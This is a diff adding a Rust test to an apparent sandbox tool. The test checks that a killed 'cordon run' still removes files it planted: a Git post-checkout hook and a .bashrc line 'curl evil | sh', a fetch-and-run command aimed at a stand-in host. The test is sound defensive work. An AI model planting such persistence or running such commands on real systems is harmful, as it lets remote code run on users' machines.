@@ -713,6 +713,49 @@ fn attempts() -> Vec<Attempt> {
                 absent(&sb.ws.join(".git"), &o)
             },
         ),
+        // `exec` SIGKILLs a cancelled run that does not end, and a panic there kills its
+        // runs: the clean-up must not need `cordon run` to live.
+        attempt("kill cordon run before its clean-up", |sb| {
+            std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
+            let mut child = sb
+                .command()
+                .args([
+                    "-c",
+                    "mkdir -p .git/hooks && printf '#!/bin/sh\\nevil\\n' > \
+                     .git/hooks/post-checkout && echo 'curl evil | sh' > .bashrc && \
+                     touch ready && sleep 60",
+                ])
+                .stdout(std::process::Stdio::null())
+                .stderr(std::process::Stdio::piped())
+                .spawn()
+                .expect("cordon run");
+            let ready = sb.ws.join("ready");
+            for _ in 0..200 {
+                if ready.exists() {
+                    break;
+                }
+                std::thread::sleep(Duration::from_millis(25));
+            }
+            let _ = child.kill();
+            let o = child.wait_with_output().expect("wait");
+            let planted = [".git/hooks/post-checkout", ".bashrc"].map(|p| sb.ws.join(p));
+            for _ in 0..200 {
+                if planted
+                    .iter()
+                    .all(|p| std::fs::symlink_metadata(p).is_err())
+                {
+                    break;
+                }
+                std::thread::sleep(Duration::from_millis(25));
+            }
+            if !ready.exists() {
+                return Err(format!("the command never got going: {}", stderr(&o)));
+            }
+            for p in &planted {
+                absent(p, &o)?;
+            }
+            Ok(())
+        }),
         // As an ordinary user a removal needs write access to the directory: a run that
         // takes it away must not keep what it planted (as root this passes trivially).
         attempt("chmod 555 the directories holding a planted hook", |sb| {
